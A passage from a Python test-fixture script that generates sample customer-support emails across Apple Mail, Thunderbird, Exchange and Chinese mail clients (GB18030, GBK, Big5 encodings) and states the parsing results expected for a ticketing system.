	charset=utf-8

{
            qp('''Yes, please send the jacket in size M and a return label for the L.

> On 5 Dec 2026, at 14:10, TicketDesk Support <support@ticketdesk.example> wrote:
>=20
> Dear Lena,
> we are sorry you received the wrong size. Shall we exchange it?
''').replace("=3D20", "=20")
        }
--Apple-Mail=_6A1B2C3D-4E5F-4A6B-8C7D-9E0F1A2B3C4D
Content-Transfer-Encoding: quoted-printable
Content-Type: text/html;
	charset=utf-8

{
            qp(
                '''<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;">Yes, please send the jacket in size M and a return label for the L.<br id="lineBreakAtBeginningOfMessage"><div><br><blockquote type="cite"><div>On 5 Dec 2026, at 14:10, TicketDesk Support &lt;support@ticketdesk.example&gt; wrote:</div><br class="Apple-interchange-newline"><div><div>Dear Lena,<br>we are sorry you received the wrong size. Shall we exchange it?</div></div></blockquote></div><br></body></html>'''
            )
        }
--Apple-Mail=_6A1B2C3D-4E5F-4A6B-8C7D-9E0F1A2B3C4D--
""",
        expect(
            client="Apple Mail",
            sender="lena.fischer@example.com",
            subject="Re: [TD-000127] Wrong size delivered",
            message_id="<8F2E1D0C-B9A8-4776-9655-443322110099@example.com>",
            in_reply_to=(outbox_id(106),),
            text_starts="Yes, please send the jacket in size M",
            text_excludes=("wrong size. Shall",),
            quoted=True,
            quoted_contains=("Shall we exchange it?",),
            html=True,
            outcome="reply",
            acknowledge=False,
            ticket="TD-000127",
        ),
    )

    add(
        "apple_mail_inline_image.eml",
        f"""\
Return-Path: <marco.bianchi@example.com>
From: Marco Bianchi <marco.bianchi@example.com>
Content-Type: multipart/alternative;
	boundary="Apple-Mail=_11223344-5566-4778-899A-ABBCCDDEEFF0"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.300.87.4.3\\))
Subject: Scratched table top
Date: Sun, 6 Dec 2026 12:44:10 +0100
To: {DESK}
Message-Id: <B7C6D5E4-F3A2-4190-8877-665544332211@example.com>
X-Mailer: Apple Mail (2.3826.300.87.4.3)


--Apple-Mail=_11223344-5566-4778-899A-ABBCCDDEEFF0
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
	charset=us-ascii

The oak table (order D-0042) has a deep scratch across the top:



Can you send someone to look at it?
Marco

--Apple-Mail=_11223344-5566-4778-899A-ABBCCDDEEFF0
Content-Type: multipart/related;
	type="text/html";
	boundary="Apple-Mail=_99887766-5544-4332-8110-FFEEDDCCBBAA"


--Apple-Mail=_99887766-5544-4332-8110-FFEEDDCCBBAA
Content-Transfer-Encoding: 7bit
Content-Type: text/html;
	charset=us-ascii

<html><head><meta http-equiv="content-type" content="text/html; charset=us-ascii"></head><body style="overflow-wrap: break-word;">The oak table (order D-0042) has a deep scratch across the top:<div><br></div><div><img apple-inline="yes" id="5F1A2B3C" src="cid:4A5B6C7D-8E9F-4011-9233-445566778899" alt="IMG_2231.jpeg"></div><div><br></div><div>Can you send someone to look at it?</div><div>Marco</div></body></html>
--Apple-Mail=_99887766-5544-4332-8110-FFEEDDCCBBAA
Content-Transfer-Encoding: base64
Content-Disposition: inline;
	filename=IMG_2231.jpeg
Content-Type: image/jpeg;
	x-unix-mode=0644;
	name="IMG_2231.jpeg"
Content-Id: <4A5B6C7D-8E9F-4011-9233-445566778899>

{b64(JPEG)}
--Apple-Mail=_99887766-5544-4332-8110-FFEEDDCCBBAA--

--Apple-Mail=_11223344-5566-4778-899A-ABBCCDDEEFF0--
""",
        expect(
            client="Apple Mail (inline image)",
            sender="marco.bianchi@example.com",
            subject="Scratched table top",
            message_id="<B7C6D5E4-F3A2-4190-8877-665544332211@example.com>",
            text_starts="The oak table (order D-0042)",
            text_contains=("send someone",),
            html=True,
            files=(
                file(
                    "IMG_2231.jpeg",
                    "image/jpeg",
                    inline=True,
                    content_id="4A5B6C7D-8E9F-4011-9233-445566778899",
                ),
            ),
            outcome="new_ticket",
            acknowledge=True,
        ),
    )

    add(
        "apple_mail_text_image_text.eml",
        f"""\
From: Marco Bianchi <marco.bianchi@example.com>
Content-Type: multipart/mixed;
	boundary="Apple-Mail=_0A0B0C0D-1E1F-4A2B-8C3D-4E5F6A7B8C9D"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3826.300.87.4.3\\))
Subject: Re: [TD-000128] Scratched table top
Date: Mon, 7 Dec 2026 08:12:40 +0100
In-Reply-To: {outbox_id(107)}
To: {DESK}
References: {outbox_id(107)}
Message-Id: <C1D2E3F4-A5B6-4C7D-8E9F-0A1B2C3D4E5F@example.com>
X-Mailer: Apple Mail (2.3826.300.87.4.3)


--Apple-Mail=_0A0B0C0D-1E1F-4A2B-8C3D-4E5F6A7B8C9D
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
	charset=us-ascii

Here is a second photo, taken in daylight:

--Apple-Mail=_0A0B0C0D-1E1F-4A2B-8C3D-4E5F6A7B8C9D
Content-Disposition: inline;
	filename=IMG_2240.png
Content-Type: image/png;
	x-unix-mode=0644;
	name="IMG_2240.png"
Content-Transfer-Encoding: base64

{b64(PNG)}
--Apple-Mail=_0A0B0C0D-1E1F-4A2B-8C3D-4E5F6A7B8C9D
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
	charset=us-ascii

The scratch is about 30 cm long.

--Apple-Mail=_0A0B0C0D-1E1F-4A2B-8C3D-4E5F6A7B8C9D--
""",
        expect(
            client="Apple Mail (text, image, text)",
            sender="marco.bianchi@example.com",
            subject="Re: [TD-000128] Scratched table top",
            message_id="<C1D2E3F4-A5B6-4C7D-8E9F-0A1B2C3D4E5F@example.com>",
            in_reply_to=(outbox_id(107),),
            text_starts="Here is a second photo",
            text_contains=("about 30 cm long",),
            files=(file("IMG_2240.png", "image/png", inline=True),),
            outcome="reply",
            acknowledge=False,
            ticket="TD-000128",
        ),
    )

    add(
        "thunderbird_new_with_pdf.eml",
        f"""\
Return-Path: <piet.janssen@example.com>
Received: from [192.168.1.23] (dsl-203-0-113-77.example.net [203.0.113.77])
	by smtp.example.com (Postfix) with ESMTPSA id 9A8B7C6D5E
	for <{DESK}>; Tue,  1 Dec 2026 16:30:02 +0100 (CET)
Message-ID: <5b1c7e2a-9d3f-4e8a-b0c1-2d3e4f5a6b7c@example.com>
Date: Tue, 1 Dec 2026 16:30:00 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: nl
To: {DESK}
From: Piet Janssen <piet.janssen@example.com>
Subject: Warranty claim for coffee machine, serial CM-88123
Content-Type: multipart/mixed; boundary="------------Xy7ZaB3cD4eF5gH6iJ7kL8mN"

This is a multi-part message in MIME format.
--------------Xy7ZaB3cD4eF5gH6iJ7kL8mN
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

Good afternoon,

my coffee machine (serial CM-88123, bought 14 March 2026) leaks water 
from the bottom since last week. The receipt is attached.

Kind regards,
Piet Janssen
--------------Xy7ZaB3cD4eF5gH6iJ7kL8mN
Content-Type: application/pdf; name="kassabon.pdf"
Content-Disposition: attachment; filename="kassabon.pdf"
Content-Transfer-Encoding: base64

{b64(PDF)}
--------------Xy7ZaB3cD4eF5gH6iJ7kL8mN--
""",
        expect(
            client="Thunderbird",
            sender="piet.janssen@example.com",
            sender_name="Piet Janssen",
            subject="Warranty claim for coffee machine, serial CM-88123",
            message_id="<5b1c7e2a-9d3f-4e8a-b0c1-2d3e4f5a6b7c@example.com>",
            text_starts="Good afternoon,",
            text_contains=("leaks water from the bottom since last week",),
            language="nl",
            quoted=True,
            quoted_contains=("Kind regards,",),
            files=(file("kassabon.pdf", "application/pdf"),),
            outcome="new_ticket",
            acknowledge=True,
        ),
    )

    add(
        "thunderbird_reply_below_quote.eml",
        f"""\
Message-ID: <e4d3c2b1-a098-4765-8321-0fedcba98765@example.com>
Date: Wed, 2 Dec 2026 21:10:44 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Subject: Re: [TD-000129] Warranty claim for coffee machine, serial CM-88123
Content-Language: nl
To: TicketDesk Support <{DESK}>
References: <5b1c7e2a-9d3f-4e8a-b0c1-2d3e4f5a6b7c@example.com>
 {outbox_id(108)}
From: Piet Janssen <piet.janssen@example.com>
In-Reply-To: {outbox_id(108)}
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

On 02/12/2026 10:15, TicketDesk Support wrote:
> Dear Piet,
>
> could you tell us whether the water comes from the tank or from the
> drip tray?

It comes from under the drip tray, even when the tray is empty.

Piet
""",
        expect(
            client="Thunderbird (answer below the quote)",
            sender="piet.janssen@example.com",
            subject="Re: [TD-000129] Warranty claim for coffee machine, serial CM-88123",
            message_id="<e4d3c2b1-a098-4765-8321-0fedcba98765@example.com>",
            in_reply_to=(outbox_id(108),),
            text_starts="It comes from under the drip tray",
            text_excludes=("could you tell us",),
            quoted=True,
            quoted_contains=("could you tell us",),
            language="nl",
            outcome="reply",
            acknowledge=False,
            ticket="TD-000129",
        ),
    )

    add(
        "thunderbird_forward_attached.eml",
        f"""\
Message-ID: <0c9b8a7f-6e5d-4c3b-a291-8f7e6d5c4b3a@example.com>
Date: Thu, 3 Dec 2026 13:05:00 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: en-US
To: {DESK}
From: Greta Lind <greta.lind@example.com>
Subject: Fwd: Delivery confirmation for order E-9001
Content-Type: multipart/mixed; boundary="------------0aB1cD2eF3gH4iJ5kL6mN7oP"

This is a multi-part message in MIME format.
--------------0aB1cD2eF3gH4iJ5kL6mN7oP
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

The courier says it was delivered, but nothing came. See the attached 
confirmation.

Greta

--------------0aB1cD2eF3gH4iJ5kL6mN7oP
Content-Type: message/rfc822; name="Delivery confirmation for order E-9001.eml"
Content-Disposition: attachment;
 filename="Delivery confirmation for order E-9001.eml"

Return-Path: <noreply@courier.example.com>
Message-ID: <20261202183011.77AB12@courier.example.com>
Date: Wed, 2 Dec 2026 18:30:11 +0100
From: Courier Tracking <noreply@courier.example.com>
To: greta.lind@example.com
Subject: Delivery confirmation for order E-9001
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 7bit

Your parcel 00340434161234567890 was delivered on 2 December at 18:02
and left at the front door.

--------------0aB1cD2eF3gH4iJ5kL6mN7oP--
""",
        expect(
            client="Thunderbird (forward as attachment)",
            sender="greta.lind@example.com",
            subject="Fwd: Delivery confirmation for order E-9001",
            message_id="<0c9b8a7f-6e5d-4c3b-a291-8f7e6d5c4b3a@example.com>",
            text_starts="The courier says it was delivered",
            text_contains=(
                "nothing came. See the attached confirmation.",
                "Forwarded message",
                "From: Courier Tracking <noreply@courier.example.com>",
                "left at the front door",
            ),
            files=(file("Delivery confirmation for order E-9001.eml", "message/rfc822"),),
            forwarded=1,
            outcome="new_ticket",
            acknowledge=True,
            note="The forwarded message is kept as an .eml file and its text follows the sender's own.",
        ),
    )


def exchange_forward() -> None:
    attached = crlf("""\
Received: from mail.partner-hotel.example.com (198.51.100.61) by
 EXCH02.schulz-reisen.example.com (10.10.1.12) with Microsoft SMTP Server id 15.2.1544.4;
 Thu, 3 Dec 2026 07:55:10 +0100
From: Hotel Bellevue Reservations <reservations@partner-hotel.example.com>
To: Petra Schulz <p.schulz@schulz-reisen.example.com>
Subject: Cancellation of booking BV-20931
Date: Thu, 3 Dec 2026 07:55:02 +0100
Message-ID: <BV20931.cancel.1733208902@partner-hotel.example.com>
MIME-Version: 1.0
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 8bit

Dear Ms Schulz,

we regret to inform you that booking BV-20931 (3 rooms, 18–21 December) has been
cancelled because of overbooking.

Hotel Bellevue
""").encode("utf-8")
    note = qp(
        "Hello,\n\nthe hotel you booked for our group cancelled three days before arrival, see the\n"
        "attached message. We need a replacement hotel or a full refund.\n\nPetra Schulz\n"
        "Schulz Reisen GmbH\n",
        "iso-8859-1",
    )
    add(
        "exchange_forward_as_attachment_base64.eml",
        f"""\
Received: from EXCH02.schulz-reisen.example.com (203.0.113.90) by
 {DESK_RECEIVED} (Postfix) with ESMTPS id 4RFg67HiJkL
 for <{DESK}>; Thu, 3 Dec 2026 08:10:40 +0000 (UTC)
From: Petra Schulz <p.schulz@schulz-reisen.example.com>
To: "{DESK}" <{DESK}>
Subject: WG: Cancellation of booking BV-20931
Thread-Topic: Cancellation of booking BV-20931
Thread-Index: AQHbRWxq3nZ1b2c3d4e5f6a7b8c9d0e1f2A=
Date: Thu, 3 Dec 2026 08:10:31 +0000
Message-ID: <8a1b2c3d4e5f4a6b9c7d8e9f0a1b2c3d@EXCH02.schulz-reisen.example.com>
Accept-Language: de-DE, en-US
Content-Language: de-DE
X-MS-Has-Attach: yes
Content-Type: multipart/mixed;
	boundary="_002_8a1b2c3d4e5f4a6b9c7d8e9f0a1b2c3dEXCH02_"
MIME-Version: 1.0

--_002_8a1b2c3d4e5f4a6b9c7d8e9f0a1b2c3dEXCH02_
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

{note}
--_002_8a1b2c3d4e5f4a6b9c7d8e9f0a1b2c3dEXCH02_
Content-Type: message/rfc822
Content-Disposition: attachment;
	creation-date="Thu, 03 Dec 2026 08:10:30 GMT";
	modification-date="Thu, 03 Dec 2026 08:10:30 GMT"
Content-Transfer-Encoding: base64

{b64(attached)}
--_002_8a1b2c3d4e5f4a6b9c7d8e9f0a1b2c3dEXCH02_--
""",
        expect(
            client="Exchange (forward as attachment, base64-encoded message/rfc822)",
            sender="p.schulz@schulz-reisen.example.com",
            sender_name="Petra Schulz",
            subject="WG: Cancellation of booking BV-20931",
            message_id="<8a1b2c3d4e5f4a6b9c7d8e9f0a1b2c3d@EXCH02.schulz-reisen.example.com>",
            text_starts="Hello,",
            text_contains=(
                "We need a replacement hotel",
                "Forwarded message",
                "cancelled because of overbooking",
            ),
            files=(file("Cancellation of booking BV-20931.eml", "message/rfc822"),),
            forwarded=1,
            language="de-DE",
            outcome="new_ticket",
            acknowledge=True,
        ),
    )


def chinese() -> None:
    qq_text = """您好：

我在贵店购买的电饭煲（订单号 F-6021）收到后无法通电，插上电源指示灯不亮。
购买人：王喆（身份证上的“喆”字），收货地址：北京市朝阳区。
另外赠品“𠮷祥”贴纸也没有收到。

请尽快处理，谢谢！

王喆
"""
    add(
        "qq_mail_gb18030_new.eml",
        "\n".join(
            [
                "Received: from smtpbg151.qq.example (smtpbg151.qq.example [203.205.250.12])",
                f"\tby {DESK_RECEIVED} (Postfix) with ESMTPS id 4R3Gh12IjKl",
                f"\tfor <{DESK}>; Tue, 01 Dec 2026 03:22:18 +0000 (UTC)",
                "X-QQ-mid: bizesmtp81t1796095338t5k2a9q1",
                "X-QQ-SSF: 00400000000000F0",
                f'From: "{ew("王喆", "gb2312", codec="gb18030")}" <wangzhe@example.cn>',
                f'To: "{DESK}" <{DESK}>',
                f"Subject: {ew('电饭煲无法通电，订单 F-6021', 'gb18030')}",
                "Mime-Version: 1.0",
                "Content-Type: multipart/alternative;",
                '\tboundary="----=_NextPart_6936A1B2_0A1B2C3D_5E6F7A8B"',
                "Content-Transfer-Encoding: 8Bit",
                "Date: Tue, 1 Dec 2026 11:22:12 +0800",
                "X-Priority: 3",
                "Message-ID: <tencent_5F1E2D3C4B5A69788796A5B4C3D2E1F0A908@qq.example>",
                "X-QQ-MIME: TCMime 1.0 by Tencent",
                "X-Mailer: QQMail 2.x",
                "X-QQ-Mailer: QQMail 2.x",
                "",
                "This is a multi-part message in MIME format.",
                "",
                "------=_NextPart_6936A1B2_0A1B2C3D_5E6F7A8B",
                "Content-Type: text/plain;",
                '\tcharset="gb2312"',
                "Content-Transfer-Encoding: base64",
                "",
                b64(qq_text.replace("\n", "\r\n").encode("gb18030")),
                "------=_NextPart_6936A1B2_0A1B2C3D_5E6F7A8B",
                "Content-Type: text/html;",
                '\tcharset="gb2312"',
                "Content-Transfer-Encoding: base64",
                "",
                b64(
                    (
                        '<meta http-equiv="Content-Type" content="text/html; charset=GB2312"><div>'
                        + "</div><div>".join(qq_text.strip().split("\n"))
                        + "</div>"
                    ).encode("gb18030")
                ),
                "------=_NextPart_6936A1B2_0A1B2C3D_5E6F7A8B--",
                "",
            ]
        ),
        expect(
            client="QQ Mail (GB18030 labelled GB2312)",
            sender="wangzhe@example.cn",
            sender_name="王喆",
            subject="电饭煲无法通电，订单 F-6021",
            message_id="<tencent_5F1E2D3C4B5A69788796A5B4C3D2E1F0A908@qq.example>",
            text_starts="您好：",
            text_contains=("王喆", "“𠮷祥”", "无法通电"),
            html=True,
            outcome="new_ticket",
            acknowledge=True,
        ),
    )

    qq_reply = (
        """收到，谢谢。但是我想要换一个新的，不要维修。

------------------&nbsp;原始邮件&nbsp;------------------
""".replace("&nbsp;", " ")
        + f"""发件人: "TicketDesk Support"<{DESK}>;
发送时间: 2026年12月1日(星期二) 下午3:05
收件人: "王喆"<wangzhe@example.cn>;
主题: [TD-000130] 电饭煲无法通电，订单 F-6021

王先生您好：
我们可以为您安排上门维修。
"""
    )
    add(
        "qq_mail_reply_quoted.eml",
        "\n".join(
            [
                "Received: from smtpbg152.qq.example (smtpbg152.qq.example [203.205.250.13])",
                f"\tby {DESK_RECEIVED} (Postfix) with ESMTPS id 4R4Hi23JkLm",
                f"\tfor <{DESK}>; Wed, 02 Dec 2026 01:40:55 +0000 (UTC)",
                f'From: "{ew("王喆", "gb18030")}" <wangzhe@example.cn>',
                f'To: "{ew("TicketDesk Support", "gb18030")}" <{DESK}>',
                f"Subject: {ew('回复：[TD-000130] 电饭煲无法通电，订单 F-6021', 'gb18030')}",
                "Mime-Version: 1.0",
                "Content-Type: text/plain;",
                '\tcharset="gb18030"',
                "Content-Transfer-Encoding: base64",
                "Date: Wed, 2 Dec 2026 09:40:49 +0800",
                "X-Priority: 3",
                "Message-ID: <tencent_0A1B2C3D4E5F60718293A4B5C6D7E8F90A1B@qq.example>",
                f"In-Reply-To: {outbox_id(109)}",
                f"References: {outbox_id(109)}",
                "X-QQ-MIME: TCMime 1.0 by Tencent",
                "X-Mailer: QQMail 2.x",
                "",
                b64(qq_reply.replace("\n", "\r\n").encode("gb18030")),
            ]
        ),
        expect(
            client="QQ Mail (reply, 原始邮件 block)",
            sender="wangzhe@example.cn",
            subject="回复：[TD-000130] 电饭煲无法通电，订单 F-6021",
            message_id="<tencent_0A1B2C3D4E5F60718293A4B5C6D7E8F90A1B@qq.example>",
            in_reply_to=(outbox_id(109),),
            text_starts="收到，谢谢。但是我想要换一个新的",
            text_excludes=("原始邮件", "上门维修"),
            quoted=True,
            quoted_contains=("上门维修",),
            outcome="reply",
            acknowledge=False,
            ticket="TD-000130",
        ),
    )

    mail163_reply = f"""退款还是没有到账，已经过了七个工作日。

--
张伟
发自网易邮箱大师

在 2026-12-02 10:02:11，"TicketDesk Support" <{DESK}> 写道：
>张先生您好：
>您的退款已于 12 月 1 日提交，预计 3-7 个工作日到账。
"""
    mail163_html = (
        '<div style="line-height:1.7;color:#000000;font-size:14px;font-family:Arial">'
        "<div>退款还是没有到账，已经过了七个工作日。</div><div><br></div><div>--</div><div>张伟</div>"
        '<div>发自网易邮箱大师</div><br><div class="J-reply" style="background-color:#f2f2f2;">'
        f'在 2026-12-02 10:02:11，"TicketDesk Support"&nbsp;&lt;{DESK}&gt; 写道：</div>'
        '<blockquote id="isReplyContent" style="PADDING-LEFT: 1ex; MARGIN: 0px 0px 0px 0.8ex; '
        'BORDER-LEFT: #ccc 1px solid">张先生您好：<br>您的退款已于 12 月 1 日提交，预计 3-7 个工作日到账。'
        "</blockquote></div>"
    )
    add(
        "mail163_reply_gbk.eml",
        "\n".join(
            [
                "Received: from m16.mail.163.example (m16.mail.163.example [220.181.12.16])",
                f"\tby {DESK_RECEIVED} (Postfix) with ESMTP id 4R5Ij34KlMn",
                f"\tfor <{DESK}>; Wed, 09 Dec 2026 06:11:30 +0000 (UTC)",
                "DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=163.example;",
                "\ts=s110527; h=Date:From:Subject:Content-Type:MIME-Version:",
                "\tMessage-ID; bh=Zm9yIGEgZmljdGl0aW91cyBtZXNzYWdlIG9ubHk=; b=Zmlj",
                "\tdGl0aW91cyBzaWduYXR1cmU=",
                "Date: Wed, 9 Dec 2026 14:11:24 +0800 (CST)",
                f'From: "{ew("张伟", "GBK")}" <zhangwei@example.cn>',
                f'To: "TicketDesk Support" <{DESK}>',
                f"Subject: {ew('Re:[TD-000131] 退款一直没有到账', 'GBK')}",
                "X-Priority: 3",
                "X-Mailer: Coremail Webmail Server Version XT5.0.14 build 20231020(0e2d0a53)",
                f"In-Reply-To: {outbox_id(110)}",
                f"References: {outbox_id(110)}",
                "Content-Type: multipart/alternative;",
                '\tboundary="----=_Part_128812_1987322331.1796796684012"',
                "MIME-Version: 1.0",
                "Message-ID: <3a1f2e4d.5b6c.18f0e1d2c3b.Coremail.zhangwei@example.cn>",
                "",
                "------=_Part_128812_1987322331.1796796684012",
                "Content-Type: text/plain; charset=GBK",
                "Content-Transfer-Encoding: base64",
                "",
                b64(mail163_reply.replace("\n", "\r\n").encode("gbk")),
                "------=_Part_128812_1987322331.1796796684012",
                "Content-Type: text/html; charset=GBK",
                "Content-Transfer-Encoding: base64",
                "",
                b64(mail163_html.encode("gbk")),
                "------=_Part_128812_1987322331.1796796684012--",
                "",
            ]
        ),
        expect(
            client="163 Mail (Coremail, GBK)",
            sender="zhangwei@example.cn",
            sender_name="张伟",
            subject="Re:[TD-000131] 退款一直没有到账",
            message_id="<3a1f2e4d.5b6c.18f0e1d2c3b.Coremail.zhangwei@example.cn>",
            in_reply_to=(outbox_id(110),),
            text_starts="退款还是没有到账",
            text_excludes=("发自网易邮箱大师", "写道"),
            quoted=True,
            quoted_contains=("发自网易邮箱大师", "预计 3-7 个工作日到账"),
            html=True,
            outcome="reply",
            acknowledge=False,
            ticket="TD-000131",
        ),
    )

    mislabelled = """客服你好，

我叫朱镕（“镕”是金字旁），上周买的空气净化器（订单 G-3308）噪音特别大，
晚上根本没法用。能不能退货？

朱镕
"""
    add(
        "mail163_gb2312_mislabelled_gbk.eml",
        "\n".join(
            [
                "Received: from m17.mail.163.example (m17.mail.163.example [220.181.12.17])",
                f"\tby {DESK_RECEIVED} (Postfix) with ESMTP id 4R6Jk45LmNo",
                f"\tfor <{DESK}>; Thu, 03 Dec 2026 12:00:05 +0000 (UTC)",
                "Date: Thu, 3 Dec 2026 20:00:01 +0800 (CST)",
                f"From: {ew('朱镕', 'GB2312', codec='gbk')} <zhurong@example.cn>",
                f"To: {DESK}",
                f"Subject: {ew('空气净化器噪音太大，想退货（朱镕）', 'GB2312', codec='gbk')}",
                "X-Mailer: Coremail Webmail Server Version XT5.0.14 build 20231020(0e2d0a53)",
                "Content-Type: text/plain; charset=GB2312",
                "Content-Transfer-Encoding: base64",
                "MIME-Version: 1.0",
                "Message-ID: <6c7d8e9f.1a2b.18f0f2e3d4c.Coremail.zhurong@example.cn>",
                "",
                b64(mislabelled.replace("\n", "\r\n").encode("gbk")),
            ]
        ),
        expect(
            client="163 Mail (GBK text labelled GB2312)",
            sender="zhurong@example.cn",
            sender_name="朱镕",
            subject="空气净化器噪音太大，想退货（朱镕）",
            message_id="<6c7d8e9f.1a2b.18f0f2e3d4c.Coremail.zhurong@example.cn>",
            text_starts="客服你好，",
            text_contains=("我叫朱镕", "噪音特别大"),
            outcome="new_ticket",
            acknowledge=True,
        ),
    )

    add(
        "qq_mail_forward_zh.eml",
        "\n".join(
            [
                f'From: "{ew("李娜", "gb18030")}" <lina@example.cn>',
                f'To: "{DESK}" <{DESK}>',
                f"Subject: {ew('转发：快递签收通知', 'gb18030')}",
                "Mime-Version: 1.0",
                "Content-Type: text/plain;",
                '\tcharset="gb18030"',
                "Content-Transfer-Encoding: base64",
                "Date: Fri, 4 Dec 2026 18:30:00 +0800",
                "Message-ID: <tencent_9F8E7D6C5B4A39281706F5E4D3C2B1A09F8E@qq.example>",
                "X-Mailer: QQMail 2.x",
                "",
                b64(
                    """快递显示已签收，但我根本没有收到，请帮忙查一下。

------------------ 原始邮件 ------------------
发件人: "快递通知"<notice@express.example.cn>;
发送时间: 2026年12月4日(星期五) 下午5:12
收件人: "李娜"<lina@example.cn>;
主题: 快递签收通知

您的快递 SF1234567890 已于 12 月 4 日 17:05 签收，签收人：门卫。
""".replace("\n", "\r\n").encode("gb18030")
                ),
            ]
        ),
        expect(
            client="QQ Mail (forward, 转发)",
            sender="lina@example.cn",
            subject="转发：快递签收通知",
            message_id="<tencent_9F8E7D6C5B4A39281706F5E4D3C2B1A09F8E@qq.example>",
            text_starts="快递显示已签收",
            text_contains=("原始邮件", "签收人：门卫"),
            outcome="new_ticket",
            acknowledge=True,
            note="A forward (subject 转发/Fwd) keeps its forwarded part in the text.",
        ),
    )

    add(
        "ooo_zh_autoreply_163.eml",
        "\n".join(
            [
                "Date: Thu, 3 Dec 2026 09:00:02 +0800 (CST)",
                f"From: {ew('陈静', 'GBK')} <chenjing@example.cn>",
                f"To: {DESK}",
                f"Subject: {ew('自动回复: [TD-000132] 关于您的投诉', 'GBK')}",
                "X-Autoreply: yes",
                "X-Mailer: Coremail Webmail Server Version XT5.0.14 build 20231020(0e2d0a53)",
                f"In-Reply-To: {outbox_id(111)}",
                "Content-Type: text/plain; charset=GBK",
                "Content-Transfer-Encoding: base64",
                "MIME-Version: 1.0",
                "Message-ID: <2b3c4d5e.7f80.18f1a2b3c4d.Coremail.chenjing@example.cn>",
                "",
                b64("您好，我正在休假，12 月 10 日返回，期间不便回复邮件。\r\n".encode("gbk")),
            ]
        ),
        expect(
            client="163 Mail (out-of-office, 自动回复)",
            sender="chenjing@example.cn",
            subject="自动回复: [TD-000132] 关于您的投诉",
            message_id="<2b3c4d5e.7f80.18f1a2b3c4d.Coremail.chenjing@example.cn>",
            in_reply_to=(outbox_id(111),),
            text_starts="您好，我正在休假",
            automated=True,
            outcome="ignored_automatic",
            acknowledge=False,
            ticket="TD-000132",
        ),
    )

    add(
        "ooo_zh_exchange_supporting_signs.eml",
        f"""\
From: =?utf-8?B?6buE5rSB?= <huang.jie@example.cn>
To: TicketDesk Support <{DESK}>
Subject: =?utf-8?B?6Ieq5Yqo562U5aSNOiBbVEQtMDAwMTMzXSDmgqjnmoTpgIDmrL7nlLPor7c=?=
Thread-Topic: [TD-000133] =?utf-8?B?5oKo55qE6YCA5qy+55Sz6K+3?=
Date: Mon, 7 Dec 2026 01:00:11 +0000
Message-ID: <SEZPR06MB5269C0D1E2F3A4B5C6D7E8F9A0B1C2D3@SEZPR06MB5269.apcprd06.prod.outlook.example>
In-Reply-To: {outbox_id(112)}
References: {outbox_id(112)}
X-Auto-Response-Suppress: All
Content-Language: zh-CN
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: base64
MIME-Version: 1.0

{b64("我外出参加培训，12月9日回来。紧急事务请联系同事。".encode())}""",
        expect(
            client="Outlook on Exchange (Chinese out-of-office, no Auto-Submitted)",
            sender="huang.jie@example.cn",
            subject="自动答复: [TD-000133] 您的退款申请",
            message_id="<SEZPR06MB5269C0D1E2F3A4B5C6D7E8F9A0B1C2D3@SEZPR06MB5269.apcprd06.prod.outlook.example>",
            in_reply_to=(outbox_id(112),),
            text_starts="我外出参加培训",
            automated=True,
            language="zh-CN",
            outcome="ignored_automatic",
            acknowledge=False,
            ticket="TD-000133",
            note="Two supporting signs together: an out-of-office subject and X-Auto-Response-Suppress.",
        ),
    )


def big5_and_japanese() -> None:
    tw_text = """您好：

我們上週在貴公司網站訂購的藍牙喇叭（訂單 H-1204），外盒已經破損，裏面的喇叭也無法開機。
我們已經付了 €35 的運費，希望可以退款或換貨。

謝謝
林志明
"""
    add(
        "big5_taiwan_cp950_new.eml",
        "\n".join(
            [
                "Received: from msa.hinet.example (msa.hinet.example [168.95.4.211])",
                f"\tby {DESK_RECEIVED} (Postfix) with ESMTP id 4R7Kl56MnOp",
                f"\tfor <{DESK}>; Fri, 04 Dec 2026 05:20:40 +0000 (UTC)",
                f'From: "{ew("林志明", "big5")}" <lin.zm@example.com.tw>',
                f"To: <{DESK}>",
                f"Subject: {ew('藍牙喇叭無法開機 (訂單 H-1204)', 'big5')}",
                "Date: Fri, 4 Dec 2026 13:20:33 +0800",
                "Message-ID: <000001db45a1$2b3c4d50$81a2b3c4$@example.com.tw>",
                "MIME-Version: 1.0",
                "Content-Type: text/plain;",
                '\tcharset="big5"',
                "Content-Transfer-Encoding: quoted-printable",
                "X-Mailer: Microsoft Outlook 16.0",
                "Thread-Index: AdnL7a1b2c3d4e5f6a7b8c9d0e1f2a3b4c==",
                "Content-Language: zh-tw",
                "",
                quopri.encodestring(tw_text.replace("\n", "\r\n").encode("cp950"))
                .decode("ascii")
                .replace("\r\n", "\n"),
            ]
        ),
        expect(
            client="Outlook zh-TW (Big5 with Microsoft's € extension)",
            sender="lin.zm@example.com.tw",
            sender_name="林志明",
            subject="藍牙喇叭無法開機 (訂單 H-1204)",
            message_id="<000001db45a1$2b3c4d50$81a2b3c4$@example.com.tw>",
            text_starts="您好：",
            text_contains=("我們已經付了 €35 的運費", "裏面的喇叭"),
            language="zh-tw",
            outcome="new_ticket",
            acknowledge=True,
        ),
    )

    hk_text = """換貨已經收到，但係新嘅喇叭都係冇聲，麻煩你哋再睇下。
陳嘉峯

寄件者: TicketDesk Support <support@ticketdesk.example>
寄件日期: 2026年12月5日 10:00
收件者: 陳嘉峯 <chan.kf@example.com.tw>
主旨: [TD-000134] 藍牙喇叭無法開機

陳先生您好，換貨已經寄出。
"""
    add(
